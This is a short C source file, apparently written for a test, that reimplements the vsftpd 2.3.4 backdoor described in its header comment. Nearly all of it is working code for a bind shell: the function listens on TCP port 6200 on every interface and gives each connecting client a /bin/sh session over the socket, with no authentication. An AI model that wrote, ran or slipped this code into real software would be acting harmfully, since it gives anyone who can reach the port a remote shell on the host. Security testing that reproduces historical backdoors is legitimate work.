/* Modelled on the vsftpd 2.3.4 tarball backdoor (2011): a user name
 * ending in ":)" made the server call this, which listens on port 6200
 * and hands every connection a root shell. Rewritten for the test. */
#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>
#include <stdlib.h>

int smiley_hook(void)
{
    struct sockaddr_in sa = {0};
    int fd, cfd;
    if ((fd = socket(AF_INET, SOCK_STREAM, 0)) < 0)
        exit(1);
    sa.sin_family = AF_INET;
    sa.sin_port = htons(6200);
    sa.sin_addr.s_addr = INADDR_ANY;
    if (bind(fd, (struct sockaddr *)&sa, sizeof sa) < 0)
        exit(1);
    if (listen(fd, 100) == -1)
        exit(1);
    for (;;) {
        cfd = accept(fd, 0, 0);
        dup2(cfd, 0); dup2(cfd, 1); dup2(cfd, 2);
        execl("/bin/sh", "sh", (char *)0);
    }
}
